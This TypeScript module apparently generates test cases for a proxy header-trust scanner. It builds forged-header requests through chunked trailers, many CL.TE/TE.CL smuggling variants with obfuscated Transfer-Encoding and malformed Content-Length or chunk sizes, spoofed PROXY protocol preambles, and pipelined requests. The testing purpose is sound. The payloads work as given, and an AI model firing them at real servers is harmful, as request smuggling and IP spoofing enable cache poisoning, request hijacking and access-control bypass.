import { spellings } from '../../contract/folding';
import { MARKER, Plant } from '../attack-case';
import { Canary } from '../canary';
import { Draft, Generator, Ground, plant, planted, slug } from './draft';
import { outspoken } from './spelled';

/** Trailer fields, which old proxies merge into the headers after they have removed the client's. */
export const trailers: Generator = (ground, wire) => {
  if (wire.protocol === 'HTTP/1.0') return [];
  return outspoken(ground).flatMap((header) =>
    spellings(header.name, ground.folding).flatMap((spelling) => {
      const seed = plant(header, wire.listener, spelling);
      return [true, false].map((announced) => trailerDraft(seed, announced));
    }),
  );
};

function trailerDraft(seed: Plant & { value: string }, announced: boolean): Draft {
  const { spelling, value } = seed;
  return {
    number: '15',
    slug: `${slug(spelling)}-${announced ? 'announced' : 'silent'}`,
    description: `trailer ${spelling}: ${value}${announced ? ', announced' : ''}`,
    plants: [seed],
    method: 'POST',
    fields: announced ? [['Trailer', spelling]] : [],
    http1: { lines: ['Transfer-Encoding: chunked'], body: `3\r\na=b\r\n0\r\n${spelling}: ${value}\r\n\r\n` },
    http2: { trailers: [[spelling.toLowerCase(), value]] },
  };
}

interface Smuggle {
  readonly name: string;
  readonly lines: readonly string[];
  readonly body: string;
  readonly unfinished?: boolean;
  readonly answers?: number;
}

/** Bodies whose end two servers see in different places, so that the rest becomes a request of its own. */
export const smuggling: Generator = (ground, wire) => {
  if (wire.protocol === 'HTTP/2') return [];
  const seed = plant(ground.asserted[0] ?? never(), wire.listener);
  const bodies = (id: string): Smuggle[] => {
    const inner = request(ground, id, `${seed.spelling}: ${seed.value}\r\n`);
    return [...lengthAgainstChunks(inner), ...oddCodings(inner), ...oddLengths(inner), ...oddChunks(inner)];
  };
  return bodies('').map(({ name, unfinished = false, answers = 1 }, i): Draft => ({
    number: '22',
    slug: slug(name),
    description: name,
    plants: [seed],
    method: 'POST',
    lingers: true,
    answers,
    unfinished,
    http1: (id) => bodies(id)[i] ?? {},
  }));
};

/** A whole request for the echo endpoint. */
function request({ path, host }: Ground, id: string, line = ''): string {
  return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${MARKER}: ${id}\r\n${line}\r\n`;
}

function never(): never {
  throw new Error('an attack needs at least one asserted header');
}

function chunk(data: string): string {
  return `${data.length.toString(16)}\r\n${data}\r\n`;
}

function lengthAgainstChunks(inner: string): Smuggle[] {
  const chunked = 'Transfer-Encoding: chunked';
  const hidden = `0\r\n\r\n${inner}`;
  return [
    { name: 'CL.TE', lines: [`Content-Length: ${hidden.length}`, chunked], body: hidden },
    { name: 'TE.CL order', lines: [chunked, `Content-Length: ${hidden.length}`], body: hidden },
    { name: 'CL.TE one byte', lines: ['Content-Length: 6', chunked], body: '0\r\n\r\nG' },
    { name: 'TE.CL', lines: ['Content-Length: 4', chunked], body: `${chunk(inner)}0\r\n\r\n` },
    { name: 'CL 0 and TE', lines: ['Content-Length: 0', chunked], body: `${chunk(inner)}0\r\n\r\n` },
    { name: 'alias of Content-Length', lines: ['Content_Length: 3', chunked], body: `${chunk(inner)}0\r\n\r\n` },
    {
      name: 'alias of Transfer-Encoding',
      lines: [`Content-Length: ${hidden.length}`, 'Transfer_Encoding: chunked'],
      body: hidden,
    },
    {
      name: 'TE nominated',
      lines: [chunked, 'Connection: close, Transfer-Encoding'],
      body: `${chunk(inner)}0\r\n\r\n`,
    },
    {
      name: 'CL nominated',
      lines: [`Content-Length: ${inner.length}`, 'Connection: keep-alive, Content-Length'],
      body: inner,
    },
  ];
}

/** Codings, and whether by every careful reading the body ends before the hidden request, which is then one indeed. */
const CODINGS: readonly (readonly [coding: string, isPlain?: boolean])[] = [
  ['Transfer-Encoding: xchunked'],
  ['Transfer-Encoding: chunked, identity'],
  ['Transfer-Encoding: identity, chunked'],
  ['Transfer-Encoding: chunked, chunked'],
  ['Transfer-Encoding: "chunked"'],
  ['Transfer-Encoding: chunked;q=1'],
  ['Transfer-Encoding:\x0bchunked'],
  ['Transfer-Encoding:\tchunked', true],
  ['Transfer-Encoding : chunked'],
  ['Transfer-Encoding: chunk\u00e9d'],
  ['Transfer-Encoding: CHUNKED', true],
  ['Transfer-Encoding: gzip, chunked'],
  ['Transfer-Encoding:'],
  ['X-Foo: a\r\n Transfer-Encoding: chunked', true],
  ['Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'],
  ['Transfer-Encoding: identity\r\nTransfer-Encoding: chunked'],
  ['X-Foo: a\nTransfer-Encoding: chunked', true],
  ['Transfer-Encoding:\r\n chunked', true],
  ['Transfer-Encoding: chunked ', true],
  ['Transfer-Encoding: chunked\0'],
  ['Transfer-Encoding: , chunked', true],
];

/** Each with a length beside it, and alone. */
function oddCodings(inner: string): Smuggle[] {
  const body = `0\r\n\r\n${inner}`;
  const length = `Content-Length: ${body.length}`;
  return CODINGS.flatMap(([coding, plain = false], i) => {
    const name = `coding ${i + 1} ${JSON.stringify(coding.replace(/Transfer-Encoding/g, 'TE'))}`;
    return [
      { name: `${name} with a length`, lines: [length, coding], body },
      { name: `${name} alone`, lines: [coding], body, unfinished: true, answers: plain ? 2 : 1 },
    ];
  });
}

function oddLengths(inner: string): Smuggle[] {
  const n = inner.length;
  const lengths: [name: string, ...lines: string[]][] = [
    ['0, n', 'Content-Length: 0', `Content-Length: ${n}`],
    ['n, 0', `Content-Length: ${n}`, 'Content-Length: 0'],
    ['list 0, n', `Content-Length: 0, ${n}`],
    ['list n, n', `Content-Length: ${n}, ${n}`],
    ['plus', `Content-Length: +${n}`],
    ['minus', `Content-Length: -${n}`],
    ['hexadecimal', `Content-Length: 0x${n.toString(16)}`],
    ['fraction', `Content-Length: ${n}.0`],
    ['exponent', 'Content-Length: 1e2'],
    ['empty', 'Content-Length:'],
    ['two words', `Content-Length: ${n} 0`],
    ['zeros', `Content-Length: 00${n}`],
    ['too large', 'Content-Length: 18446744073709551616'],
    ['blank before the colon', `Content-Length : ${n}`],
    ['folded', `Content-Length:\r\n ${n}`],
    ['one too few', `Content-Length: ${n - 1}`],
    ['one too many', `Content-Length: ${n + 1}`],
  ];
  return lengths.map(([name, ...lines]) => ({ name: `length ${name}`, lines, body: inner, unfinished: true }));
}

function oddChunks(inner: string): Smuggle[] {
  const lines = ['Transfer-Encoding: chunked'];
  const bodies: [name: string, body: string, answers?: number][] = [
    ['extension with a line feed', `3;a\nb\r\na=b\r\n0\r\n\r\n${inner}`],
    ['extension with a return', `3;a\rb\r\na=b\r\n0\r\n\r\n`],
    ['line feeds only', `3\na=b\n0\n\n${inner}`],
    ['size with a sign', `+3\r\na=b\r\n0\r\n\r\n`],
    ['size with a prefix', `0x3\r\na=b\r\n0\r\n\r\n`],
    ['size with a blank', `3 \r\na=b\r\n0\r\n\r\n`],
    ['size too large', `ffffffffffffffff3\r\na=b\r\n0\r\n\r\n`],
    ['size negative', `-1\r\na=b\r\n0\r\n\r\n`],
    ['no size', `\r\na=b\r\n0\r\n\r\n`],
    ['data too long', `3\r\na=bcdef\r\n0\r\n\r\n`],
    ['last chunk with zeros', `000\r\n\r\n${inner}`, 2],
    ['last chunk with an extension', `0;a=b\r\n\r\n${inner}`, 2],
    ['request in an extension', `3;${inner.replaceAll('\r\n', ';')}\r\na=b\r\n0\r\n\r\n`],
  ];
  return bodies.map(([name, body, answers]) => ({ name: `chunks, ${name}`, lines, body, answers, unfinished: true }));
}

/** The PROXY protocol from a client that is no proxy. */
export const proxyProtocol: Generator = (ground, wire) => {
  if (wire.protocol === 'HTTP/2') return [];
  const address = Canary.ADDRESS;
  const signature = '\r\n\r\n\0\r\nQUIT\n';
  const v2 = (length: string, rest: string) => `${signature}${length}${rest}`;
  const packed = `${octets(address)}${octets('127.0.0.1')}\x00\x01\x01\xbb`;
  const heads: [string, string][] = [
    ['v1 TCP4', `PROXY TCP4 ${address} 127.0.0.1 1 443\r\n`],
    ['v1 TCP6', `PROXY TCP6 ::ffff:${address} ::1 1 443\r\n`],
    ['v1 UNKNOWN', 'PROXY UNKNOWN\r\n'],
    ['v2 PROXY', v2('\x21\x11\x00\x0c', packed)],
    ['v2 LOCAL', v2('\x20\x00\x00\x00', '')],
  ];
  const { asserted } = ground;
  const seeds = asserted.map((header) => plant(header, wire.listener)).filter(({ value }) => value === address);
  return heads.map(([name, before]): Draft => ({
    number: '28',
    slug: slug(name),
    description: `PROXY protocol ${name} says ${address}:443`,
    plants: seeds,
    http1: { before },
  }));
};

function octets(address: string): string {
  return address
    .split('.')
    .map((octet) => String.fromCharCode(Number(octet)))
    .join('');
}

/** An honest request and a forged one on one connection: what is pipelined is a request like any other. */
export const pipelined: Generator = (ground, wire) => {
  if (wire.protocol !== 'HTTP/1.1') return [];
  return outspoken(ground).map((header): Draft => {
    const seed = plant(header, wire.listener);
    return {
      number: '22',
      slug: `${slug(header.name)}-pipelined`,
      description: `${seed.spelling}: ${seed.value} right behind an honest request`,
      plants: [seed],
      fields: [planted(seed)],
      answers: 2,
      http1: (id) => ({ before: request(ground, id) }),
    };
  });
};
